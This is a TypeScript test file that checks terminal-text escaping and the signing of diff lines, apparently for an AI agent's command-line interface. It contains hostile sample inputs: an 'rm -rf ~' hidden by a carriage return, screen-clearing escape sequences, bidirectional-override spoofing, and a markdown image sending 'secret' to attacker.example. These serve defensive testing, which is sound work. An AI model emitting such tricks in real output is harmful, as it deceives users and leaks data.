import assert from 'node:assert/strict';
import { forTerminal } from '../../host/cli/terminalText';
import { editDiffLines } from '../../protocol/run';

describe('text for the terminal', () => {
  it('shows escape sequences, carriage returns and other controls as escapes, so nothing can draw over a question', () => {
    assert.equal(forTerminal('Done.\x1b[2J\x1b[1;1HAll good'), 'Done.\\x1b[2J\\x1b[1;1HAll good');
    assert.equal(forTerminal('rm -rf ~\r+ harmless'), 'rm -rf ~\\r+ harmless');
    assert.equal(forTerminal('a\x08\x08b\x07\x00\x7f\x9b'), 'a\\x08\\x08b\\x07\\x00\\x7f\\x9b');
    // An OSC sequence (terminal title, hyperlinks) loses its introducer and its terminator.
    assert.equal(forTerminal('\x1b]0;pwned\x07'), '\\x1b]0;pwned\\x07');
  });

  it('shows bidirectional overrides and isolates, which reorder what is read', () => {
    assert.equal(forTerminal('access = "user\u202e \u2066// admin\u2069\u2066"'), 'access = "user\\u202e \\u2066// admin\\u2069\\u2066"');
  });

  it('keeps newlines, tabs, and every other character as they are', () => {
    const text = 'line one\n\tindented — ü ✓ 中文 🙂\nline three';
    assert.equal(forTerminal(text), text);
  });
});

describe('an edit as diff lines', () => {
  it('signs every line, split at every line ending, so a lone carriage return cannot start an unsigned line', () => {
    const diff = editDiffLines({ oldText: 'a\r\nb', newText: 'c\r```\r![x](https://attacker.example/?q=secret)\nd' });
    assert.deepEqual(diff.split('\n'), ['- a', '- b', '+ c', '+ ```', '+ ![x](https://attacker.example/?q=secret)', '+ d']);
    // Markdown and terminals take \r as a line ending too: no line of the result may start with anything but a sign.
    for (const line of diff.split(/\r\n|\r|\n/)) assert.match(line, /^[-+] /);
  });
});
